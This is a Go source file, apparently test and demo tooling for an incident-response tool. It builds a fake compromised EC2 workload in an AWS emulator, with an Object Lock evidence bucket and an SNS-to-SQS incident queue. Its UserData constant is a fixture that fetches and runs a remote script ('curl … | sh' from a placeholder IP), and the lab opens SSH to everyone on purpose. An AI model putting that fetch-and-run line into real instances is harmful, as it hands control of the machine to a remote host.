// Package lab builds a suspect environment in an EC2-compatible endpoint (the
// moto emulator in tests and in `make demo`): a VPC with one instance that has
// two EBS volumes, two network interfaces (in different security groups), an
// instance profile, user data and shutdown behaviour "terminate", plus an
// Object Lock evidence bucket and an SNS topic whose messages land in an SQS
// queue. It exists so that tests and demos run the real binary against
// something that looks like a compromised workload.
//
// A lab is built with the caller's credentials in one account and Region.
// It is meant for emulators: nothing is cleaned up.
package lab

import (
	"context"
	"encoding/base64"
	"fmt"
	"os"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/config"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	s3types "github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/aws/aws-sdk-go-v2/service/sns"
	"github.com/aws/aws-sdk-go-v2/service/sqs"
	sqstypes "github.com/aws/aws-sdk-go-v2/service/sqs/types"
	"github.com/aws/aws-sdk-go-v2/service/sts"
)

// Lab is everything Build created, by ID or ARN.
type Lab struct {
	Name      string `json:"name"`
	Region    string `json:"region"`
	AccountID string `json:"account_id"`

	VpcID    string `json:"vpc_id"`
	SubnetID string `json:"subnet_id"`
	// SecurityGroupID is the instance's group: SSH in from anywhere, all out.
	SecurityGroupID string `json:"security_group_id"`
	// SecondaryGroupID is the extra group of the second interface.
	SecondaryGroupID string `json:"secondary_group_id"`

	RoleName           string `json:"role_name"`
	RoleARN            string `json:"role_arn"`
	InstanceProfileARN string `json:"instance_profile_arn"`

	InstanceID   string `json:"instance_id"`
	ImageID      string `json:"image_id"`
	RootVolumeID string `json:"root_volume_id"`
	DataVolumeID string `json:"data_volume_id"`
	PrimaryENI   string `json:"primary_eni"`
	SecondaryENI string `json:"secondary_eni"`
	UserData     string `json:"user_data"`

	Bucket     string `json:"bucket"`
	ObjectLock bool   `json:"object_lock"`
	TopicARN   string `json:"topic_arn"`
	QueueURL   string `json:"queue_url"`
	QueueARN   string `json:"queue_arn"`
}

// Clients are the SDK clients a lab is built and inspected with.
type Clients struct {
	EC2    *ec2.Client
	IAM    *iam.Client
	S3     *s3.Client
	SNS    *sns.Client
	SQS    *sqs.Client
	STS    *sts.Client
	Region string
}

// Emulator credentials, used when the environment has none.
const (
	DummyAccessKeyID     = "testing"
	DummySecretAccessKey = "testing"
)

// NewClients builds clients for one endpoint URL (for example
// http://127.0.0.1:5000) and Region. Credentials come from the environment
// when AWS_ACCESS_KEY_ID is set, otherwise the emulator's dummy ones.
func NewClients(ctx context.Context, endpointURL, region string) (*Clients, error) {
	opts := []func(*config.LoadOptions) error{
		config.WithRegion(region),
		config.WithBaseEndpoint(endpointURL),
	}
	if os.Getenv("AWS_ACCESS_KEY_ID") == "" {
		opts = append(opts, config.WithCredentialsProvider(
			credentials.NewStaticCredentialsProvider(DummyAccessKeyID, DummySecretAccessKey, "")))
	}
	cfg, err := config.LoadDefaultConfig(ctx, opts...)
	if err != nil {
		return nil, fmt.Errorf("load configuration for %s: %w", endpointURL, err)
	}
	return &Clients{
		EC2: ec2.NewFromConfig(cfg),
		IAM: iam.NewFromConfig(cfg),
		// Emulators do not serve virtual-hosted bucket names.
		S3:     s3.NewFromConfig(cfg, func(o *s3.Options) { o.UsePathStyle = true }),
		SNS:    sns.NewFromConfig(cfg),
		SQS:    sqs.NewFromConfig(cfg),
		STS:    sts.NewFromConfig(cfg),
		Region: region,
	}, nil
}

// UserData is the script the suspect instance was launched with.
const UserData = "#!/bin/sh\n# lab: a suspicious workload\ncurl -s http://198.51.100.7/x | sh\n"

// Build creates a lab. name makes every resource name unique, so that several
// labs can live in one emulator; it must be lowercase letters, digits and
// hyphens (it becomes part of a bucket name).
func Build(ctx context.Context, c *Clients, name string) (*Lab, error) {
	l := &Lab{Name: name, Region: c.Region, UserData: UserData}
	b := builder{c: c, l: l}
	for _, step := range []struct {
		what string
		do   func(context.Context) error
	}{
		{"identity", b.identity},
		{"network", b.network},
		{"instance profile", b.profile},
		{"instance", b.instance},
		{"second network interface", b.secondInterface},
		{"evidence bucket", b.bucket},
		{"notification topic", b.topic},
	} {
		if err := step.do(ctx); err != nil {
			return nil, fmt.Errorf("lab %s: %s: %w", name, step.what, err)
		}
	}
	return l, nil
}

type builder struct {
	c *Clients
	l *Lab
}

func (b builder) identity(ctx context.Context) error {
	out, err := b.c.STS.GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
	if err != nil {
		return err
	}
	b.l.AccountID = aws.ToString(out.Account)
	return nil
}

func tags(rt ec2types.ResourceType, name string) []ec2types.TagSpecification {
	return []ec2types.TagSpecification{{ResourceType: rt, Tags: []ec2types.Tag{
		{Key: aws.String("Name"), Value: aws.String(name)},
		{Key: aws.String("lab"), Value: aws.String("responder")},
	}}}
}

func (b builder) network(ctx context.Context) error {
	e, l := b.c.EC2, b.l
	vpc, err := e.CreateVpc(ctx, &ec2.CreateVpcInput{CidrBlock: aws.String("10.20.0.0/16"),
		TagSpecifications: tags(ec2types.ResourceTypeVpc, l.Name)})
	if err != nil {
		return fmt.Errorf("create VPC: %w", err)
	}
	l.VpcID = aws.ToString(vpc.Vpc.VpcId)
	sub, err := e.CreateSubnet(ctx, &ec2.CreateSubnetInput{VpcId: &l.VpcID, CidrBlock: aws.String("10.20.1.0/24"),
		TagSpecifications: tags(ec2types.ResourceTypeSubnet, l.Name)})
	if err != nil {
		return fmt.Errorf("create subnet in %s: %w", l.VpcID, err)
	}
	l.SubnetID = aws.ToString(sub.Subnet.SubnetId)

	// A new VPC group already allows all egress; add SSH in.
	if l.SecurityGroupID, err = b.group(ctx, l.Name+"-web", "SSH in, all out"); err != nil {
		return err
	}
	_, err = e.AuthorizeSecurityGroupIngress(ctx, &ec2.AuthorizeSecurityGroupIngressInput{
		GroupId: &l.SecurityGroupID,
		IpPermissions: []ec2types.IpPermission{{
			IpProtocol: aws.String("tcp"), FromPort: aws.Int32(22), ToPort: aws.Int32(22),
			IpRanges: []ec2types.IpRange{{CidrIp: aws.String("0.0.0.0/0")}},
		}},
	})
	if err != nil {
		return fmt.Errorf("allow SSH into %s: %w", l.SecurityGroupID, err)
	}
	l.SecondaryGroupID, err = b.group(ctx, l.Name+"-backend", "backend interface")
	return err
}

func (b builder) group(ctx context.Context, name, description string) (string, error) {
	out, err := b.c.EC2.CreateSecurityGroup(ctx, &ec2.CreateSecurityGroupInput{
		GroupName: aws.String(name), Description: aws.String(description), VpcId: &b.l.VpcID,
		TagSpecifications: tags(ec2types.ResourceTypeSecurityGroup, name),
	})
	if err != nil {
		return "", fmt.Errorf("create security group %s: %w", name, err)
	}
	return aws.ToString(out.GroupId), nil
}

const ec2TrustPolicy = `{"Version":"2012-10-17","Statement":[{"Effect":"Allow",` +
	`"Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}`

func (b builder) profile(ctx context.Context) error {
	l := b.l
	l.RoleName = l.Name + "-app"
	role, err := b.c.IAM.CreateRole(ctx, &iam.CreateRoleInput{RoleName: &l.RoleName, AssumeRolePolicyDocument: aws.String(ec2TrustPolicy)})
	if err != nil {
		return fmt.Errorf("create role %s: %w", l.RoleName, err)
	}
	l.RoleARN = aws.ToString(role.Role.Arn)
	prof, err := b.c.IAM.CreateInstanceProfile(ctx, &iam.CreateInstanceProfileInput{InstanceProfileName: &l.RoleName})
	if err != nil {
		return fmt.Errorf("create instance profile %s: %w", l.RoleName, err)
	}
	l.InstanceProfileARN = aws.ToString(prof.InstanceProfile.Arn)
	_, err = b.c.IAM.AddRoleToInstanceProfile(ctx, &iam.AddRoleToInstanceProfileInput{InstanceProfileName: &l.RoleName, RoleName: &l.RoleName})
	if err != nil {
		return fmt.Errorf("add role to instance profile %s: %w", l.RoleName, err)
	}
	return nil
}

func (b builder) instance(ctx context.Context) error {
	e, l := b.c.EC2, b.l
	img, err := pickImage(ctx, e)
	if err != nil {
		return err
	}
	l.ImageID = aws.ToString(img.ImageId)
	rootDevice := aws.ToString(img.RootDeviceName)
	run, err := e.RunInstances(ctx, &ec2.RunInstancesInput{
		ImageId: &l.ImageID, InstanceType: ec2types.InstanceTypeT3Micro,
		MinCount: aws.Int32(1), MaxCount: aws.Int32(1),
		SubnetId: &l.SubnetID, SecurityGroupIds: []string{l.SecurityGroupID},
		IamInstanceProfile: &ec2types.IamInstanceProfileSpecification{Arn: &l.InstanceProfileARN},
		UserData:           aws.String(base64.StdEncoding.EncodeToString([]byte(UserData))),
		// A shutdown from inside would destroy the evidence: containment
		// must turn this into "stop".
		InstanceInitiatedShutdownBehavior: ec2types.ShutdownBehaviorTerminate,
		BlockDeviceMappings: []ec2types.BlockDeviceMapping{
			{DeviceName: aws.String(rootDevice), Ebs: &ec2types.EbsBlockDevice{VolumeSize: aws.Int32(8), DeleteOnTermination: aws.Bool(true)}},
			{DeviceName: aws.String("/dev/sdf"), Ebs: &ec2types.EbsBlockDevice{VolumeSize: aws.Int32(20), DeleteOnTermination: aws.Bool(false)}},
		},
		TagSpecifications: tags(ec2types.ResourceTypeInstance, l.Name+"-suspect"),
	})
	if err != nil {
		return fmt.Errorf("run instance from %s: %w", l.ImageID, err)
	}
	l.InstanceID = aws.ToString(run.Instances[0].InstanceId)
	waiter := ec2.NewInstanceRunningWaiter(e, func(o *ec2.InstanceRunningWaiterOptions) { o.MinDelay = time.Second })
	if err := waiter.Wait(ctx, &ec2.DescribeInstancesInput{InstanceIds: []string{l.InstanceID}}, 5*time.Minute); err != nil {
		return fmt.Errorf("wait for %s to run: %w", l.InstanceID, err)
	}
	inst, err := describeInstance(ctx, e, l.InstanceID)
	if err != nil {
		return err
	}
	for _, m := range inst.BlockDeviceMappings {
		if m.Ebs == nil {
			continue
		}
		if aws.ToString(m.DeviceName) == rootDevice {
			l.RootVolumeID = aws.ToString(m.Ebs.VolumeId)
		} else {
			l.DataVolumeID = aws.ToString(m.Ebs.VolumeId)
		}
	}
	for _, n := range inst.NetworkInterfaces {
		if n.Attachment != nil && aws.ToInt32(n.Attachment.DeviceIndex) == 0 {
			l.PrimaryENI = aws.ToString(n.NetworkInterfaceId)
		}
	}
	if l.RootVolumeID == "" || l.DataVolumeID == "" || l.PrimaryENI == "" {
		return fmt.Errorf("instance %s came up without a root volume, a data volume or a primary interface", l.InstanceID)
	}
	return nil
}

// pickImage takes an available x86_64 EBS-backed image, preferring Amazon's own.
func pickImage(ctx context.Context, e *ec2.Client) (ec2types.Image, error) {
	out, err := e.DescribeImages(ctx, &ec2.DescribeImagesInput{
		Owners: []string{"amazon"},
		Filters: []ec2types.Filter{
			{Name: aws.String("architecture"), Values: []string{"x86_64"}},
			{Name: aws.String("root-device-type"), Values: []string{"ebs"}},
			{Name: aws.String("state"), Values: []string{"available"}},
		},
	})
	if err != nil {
		return ec2types.Image{}, fmt.Errorf("describe images: %w", err)
	}
	for _, img := range out.Images {
		if aws.ToString(img.RootDeviceName) != "" {
			return img, nil
		}
	}
	return ec2types.Image{}, fmt.Errorf("no available x86_64 EBS-backed image owned by amazon")
}

func describeInstance(ctx context.Context, e *ec2.Client, id string) (ec2types.Instance, error) {
	out, err := e.DescribeInstances(ctx, &ec2.DescribeInstancesInput{InstanceIds: []string{id}})
	if err != nil {
		return ec2types.Instance{}, fmt.Errorf("describe instance %s: %w", id, err)
	}
	for _, r := range out.Reservations {
		for _, i := range r.Instances {
			return i, nil
		}
	}
	return ec2types.Instance{}, fmt.Errorf("describe instance %s: not returned", id)
}

func (b builder) secondInterface(ctx context.Context) error {
	e, l := b.c.EC2, b.l
	eni, err := e.CreateNetworkInterface(ctx, &ec2.CreateNetworkInterfaceInput{
		SubnetId: &l.SubnetID, Groups: []string{l.SecondaryGroupID},
		Description:       aws.String("lab backend interface"),
		TagSpecifications: tags(ec2types.ResourceTypeNetworkInterface, l.Name+"-backend"),
	})
	if err != nil {
		return fmt.Errorf("create interface in %s: %w", l.SubnetID, err)
	}
	l.SecondaryENI = aws.ToString(eni.NetworkInterface.NetworkInterfaceId)
	_, err = e.AttachNetworkInterface(ctx, &ec2.AttachNetworkInterfaceInput{
		InstanceId: &l.InstanceID, NetworkInterfaceId: &l.SecondaryENI, DeviceIndex: aws.Int32(1),
	})
	if err != nil {
		return fmt.Errorf("attach %s to %s: %w", l.SecondaryENI, l.InstanceID, err)
	}
	return nil
}

// bucket creates the evidence bucket with Object Lock and a one-day
// GOVERNANCE default retention, as a forensics account would have it (with a
// longer retention). Every PUT then needs a checksum header.
func (b builder) bucket(ctx context.Context) error {
	l := b.l
	l.Bucket = l.Name + "-evidence"
	in := &s3.CreateBucketInput{Bucket: &l.Bucket, ObjectLockEnabledForBucket: aws.Bool(true)}
	if l.Region != "us-east-1" {
		in.CreateBucketConfiguration = &s3types.CreateBucketConfiguration{LocationConstraint: s3types.BucketLocationConstraint(l.Region)}
	}
	if _, err := b.c.S3.CreateBucket(ctx, in); err != nil {
		return fmt.Errorf("create bucket %s: %w", l.Bucket, err)
	}
	_, err := b.c.S3.PutObjectLockConfiguration(ctx, &s3.PutObjectLockConfigurationInput{
		Bucket: &l.Bucket,
		ObjectLockConfiguration: &s3types.ObjectLockConfiguration{
			ObjectLockEnabled: s3types.ObjectLockEnabledEnabled,
			Rule: &s3types.ObjectLockRule{DefaultRetention: &s3types.DefaultRetention{
				Mode: s3types.ObjectLockRetentionModeGovernance, Days: aws.Int32(1),
			}},
		},
	})
	if err != nil {
		return fmt.Errorf("set default retention on %s: %w", l.Bucket, err)
	}
	l.ObjectLock = true
	return nil
}

// topic creates the SNS topic and an SQS queue subscribed to it (envelope
// delivery: the queue receives SNS's JSON with the message in "Message").
func (b builder) topic(ctx context.Context) error {
	l := b.l
	t, err := b.c.SNS.CreateTopic(ctx, &sns.CreateTopicInput{Name: aws.String(l.Name + "-incidents")})
	if err != nil {
		return fmt.Errorf("create topic: %w", err)
	}
	l.TopicARN = aws.ToString(t.TopicArn)
	q, err := b.c.SQS.CreateQueue(ctx, &sqs.CreateQueueInput{QueueName: aws.String(l.Name + "-incidents")})
	if err != nil {
		return fmt.Errorf("create queue: %w", err)
	}
	l.QueueURL = aws.ToString(q.QueueUrl)
	attrs, err := b.c.SQS.GetQueueAttributes(ctx, &sqs.GetQueueAttributesInput{
		QueueUrl: &l.QueueURL, AttributeNames: []sqstypes.QueueAttributeName{sqstypes.QueueAttributeNameQueueArn},
	})
	if err != nil {
		return fmt.Errorf("get ARN of %s: %w", l.QueueURL, err)
	}
	l.QueueARN = attrs.Attributes[string(sqstypes.QueueAttributeNameQueueArn)]
	// On AWS the queue must let the topic send to it.
	policy := fmt.Sprintf(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow",`+
		`"Principal":{"Service":"sns.amazonaws.com"},"Action":"sqs:SendMessage","Resource":%q,`+
		`"Condition":{"ArnEquals":{"aws:SourceArn":%q}}}]}`, l.QueueARN, l.TopicARN)
	_, err = b.c.SQS.SetQueueAttributes(ctx, &sqs.SetQueueAttributesInput{
		QueueUrl: &l.QueueURL, Attributes: map[string]string{string(sqstypes.QueueAttributeNamePolicy): policy},
	})
	if err != nil {
		return fmt.Errorf("set policy of %s: %w", l.QueueURL, err)
	}
	_, err = b.c.SNS.Subscribe(ctx, &sns.SubscribeInput{TopicArn: &l.TopicARN, Protocol: aws.String("sqs"), Endpoint: &l.QueueARN})
	if err != nil {
		return fmt.Errorf("subscribe %s to %s: %w", l.QueueARN, l.TopicARN, err)
	}
	return nil
}
